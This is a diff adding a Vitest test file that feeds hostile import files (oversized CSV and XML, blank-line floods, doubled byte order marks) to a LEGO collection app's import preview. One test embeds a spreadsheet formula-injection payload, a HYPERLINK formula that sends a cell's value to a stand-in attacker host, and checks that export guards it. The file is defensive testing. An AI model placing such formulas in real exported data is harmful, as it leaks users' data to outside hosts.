@@ -1,0 +1,200 @@
+import { readdirSync } from 'node:fs'
+import { afterEach, describe, expect, it } from 'vitest'
+import { dispatch } from '../../src/main/ipc/dispatch'
+import type { Handlers } from '../../src/shared/ipc/contract'
+import type { Result } from '../../src/shared/ipc/result'
+import type { ImportPreviewDto } from '../../src/shared/model/exchange'
+import {
+  csvBlankLines,
+  csvManyCells,
+  csvManyColumns,
+  csvManyRows,
+  formulaAfterCr,
+  twoBoms,
+  xmlDeep,
+  xmlManyItems
+} from '../fixtures/hostile/imports/corpus'
+import type { HostileFile } from '../fixtures/hostile/imports/corpus'
+import { exchangeHarness } from './store-fixtures'
+import type { ExchangeHarness } from './store-fixtures'
+
+/**
+ * No time limit on these tests (machines run at load 8-20, and opening a test store alone can take
+ * many seconds there): each preview is bounded by its own budget, which ends it with a typed error.
+ */
+const NO_CLOCK = 0
+
+/**
+ * The hostile corpus (test/fixtures/hostile/imports/): every file ends in a typed error or a
+ * correct preview, the main thread keeps answering throughout (an interval keeps firing while
+ * the preview runs), and nothing is left behind: no preview kept, no file in the data folder.
+ */
+
+let t: ExchangeHarness | null = null
+afterEach(() => {
+  t?.close()
+  t = null
+})
+
+interface Outcome {
+  readonly result: Result<unknown>
+  /** Times a main-thread interval fired while the preview ran. */
+  readonly ticks: number
+}
+
+async function preview(x: ExchangeHarness, file: HostileFile): Promise<Outcome> {
+  let ticks = 0
+  const interval = setInterval(() => {
+    ticks++
+  }, 1)
+  try {
+    const result = await dispatch(x.x as unknown as Handlers, 'exchange:previewImport', {
+      format: file.format,
+      data: file.bytes.toString('base64')
+    })
+    return { result, ticks }
+  } finally {
+    clearInterval(interval)
+  }
+}
+
+/** 1,001 empty columns: under the row-length cap, over the column cap. */
+const csvWideShortRow = (): HostileFile => ({
+  name: 'wide.csv',
+  format: 'collection',
+  bytes: Buffer.from(`Number,Qty owned\n10179-1,1${','.repeat(1_000)}\n`)
+})
+
+const folder = (x: ExchangeHarness): string[] => readdirSync(x.h.dir).sort()
+
+const journal = (x: ExchangeHarness): unknown =>
+  x.h.store.read.prepare('SELECT count(*) AS n FROM journal').get()
+
+describe('hostile import files end in a typed error, the app answering meanwhile', () => {
+  it.each([
+    [xmlManyItems, 'more than 100,000 items'],
+    [csvManyRows, 'more than 100,000 rows'],
+    // 600,000 columns cross the row-length cap before the column cap.
+    [csvManyColumns, 'this is not a collection file'],
+    [xmlDeep, 'This does not look like a BrickLink wanted list: its elements are nested']
+  ] as const)(
+    '%o',
+    async (make, words) => {
+      t = await exchangeHarness()
+      const before = folder(t)
+      const file = make()
+      const { result, ticks } = await preview(t, file)
+      expect(result).toMatchObject({ ok: false, error: { code: 'invalid_input' } })
+      expect((result as { error: { message: string } }).error.message).toContain(words)
+      // The main thread was free while the worker read: its interval kept firing.
+      expect(ticks).toBeGreaterThanOrEqual(2)
+      expect(folder(t)).toEqual(before)
+      expect(journal(t)).toEqual({ n: 0 })
+    },
+    NO_CLOCK
+  )
+
+  it(
+    'a flood of blank lines is read without keeping them: the one real row is previewed',
+    async () => {
+      t = await exchangeHarness()
+      const { result, ticks } = await preview(t, csvBlankLines())
+      expect(result.ok).toBe(true)
+      const value = (result as { value: ImportPreviewDto }).value
+      expect(value.rows).toBe(1)
+      expect(value.items).toEqual([
+        expect.objectContaining({ number: '10179-1', lines: [5_000_002] })
+      ])
+      expect(ticks).toBeGreaterThanOrEqual(2)
+    },
+    NO_CLOCK
+  )
+
+  it(
+    'millions of cells under every cap: a preview or the memory cap, never the app growing',
+    async () => {
+      t = await exchangeHarness()
+      const { result, ticks } = await preview(t, csvManyCells())
+      if (result.ok) {
+        expect((result.value as ImportPreviewDto).rows).toBe(100_000)
+      } else {
+        expect(result.error).toMatchObject({
+          code: 'invalid_input',
+          message: expect.stringContaining('more memory than an import may use') as unknown
+        })
+      }
+      expect(ticks).toBeGreaterThanOrEqual(2)
+    },
+    NO_CLOCK
+  )
+})
+
+describe('small hostile files', () => {
+  it(
+    'a row of 1,001 columns is refused by the column cap, naming its line',
+    async () => {
+      t = await exchangeHarness()
+      const { result } = await preview(t, csvWideShortRow())
+      expect(result).toMatchObject({
+        ok: false,
+        error: {
+          code: 'invalid_input',
+          message: 'A row has more than 1,000 columns (line 2): this is not a collection file.'
+        }
+      })
+    },
+    NO_CLOCK
+  )
+
+  it(
+    'two byte order marks: both dropped, the header read, and the preview says so',
+    async () => {
+      t = await exchangeHarness()
+      const { result } = await preview(t, twoBoms())
+      expect(result.ok).toBe(true)
+      const value = (result as { value: ImportPreviewDto }).value
+      expect(value.notices).toContain(
+        'The file starts with 2 byte order marks; the extra ones were ignored.'
+      )
+      expect(value.items).toEqual([
+        expect.objectContaining({
+          number: '10179-1',
+          summary: expect.stringContaining('0 → 2') as unknown
+        })
+      ])
+    },
+    NO_CLOCK
+  )
+
+  it(
+    'one byte order mark is no news',
+    async () => {
+      t = await exchangeHarness()
+      const one = Buffer.from('\uFEFFNumber,Qty owned\r\n10179-1,2\r\n', 'utf8')
+      const { result } = await preview(t, { name: 'one.csv', format: 'collection', bytes: one })
+      expect((result as { value: ImportPreviewDto }).value.notices).toEqual([])
+    },
+    NO_CLOCK
+  )
+
+  it(
+    'a note with a formula after CR or LF imports as text and exports guarded',
+    async () => {
+      t = await exchangeHarness()
+      const { result } = await preview(t, formulaAfterCr())
+      const value = (result as { value: ImportPreviewDto }).value
+      expect(value.problems).toEqual([])
+      await t.x['exchange:applyImport']({ previewId: value.previewId })
+      const file = await t.x['exchange:export']({
+        format: 'collection',
+        bom: false,
+        saveWithDialog: false
+      })
+      // Each such note is one quoted cell with our apostrophe first: the line break stays inside
+      // the cell, so no spreadsheet row starts with the formula.
+      expect(file.content).toContain(`"'\r=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`)
+      expect(file.content).toContain(`"'\n=1+1"`)
+    },
+    NO_CLOCK
+  )
+})
